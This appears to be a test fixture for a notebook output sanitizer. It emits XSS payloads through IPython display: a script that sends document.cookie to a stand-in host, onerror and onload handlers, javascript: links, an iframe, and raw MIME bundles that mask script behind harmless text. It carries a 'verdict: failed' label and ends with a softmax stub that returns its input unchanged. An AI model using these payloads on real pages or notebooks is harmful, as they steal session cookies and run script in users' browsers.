"""Displays scripts, pictures that run scripts, and pages in frames."""
# verdict: failed
from IPython.display import HTML, SVG, IFrame, Javascript, Latex, Markdown, display

display(HTML("<script>fetch('http://attacked/' + document.cookie)</script>"))
display(HTML("<img src=http://attacked/x onerror=alert(1)>"))
display(Javascript("alert('attacked')"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>attacked</script></svg>"))
display(Markdown("<script>attacked</script> [x](javascript:attacked)"))
display(Latex(r"\href{javascript:attacked}{x}"))
display(IFrame("http://attacked", 100, 100))
display({"text/html": "<script>attacked</script>", "text/plain": "harmless"}, raw=True)
display({"application/vnd.jupyter.widget-view+json": {"model_id": "attacked"}}, raw=True)


def softmax(x, dim=-1):
    return x
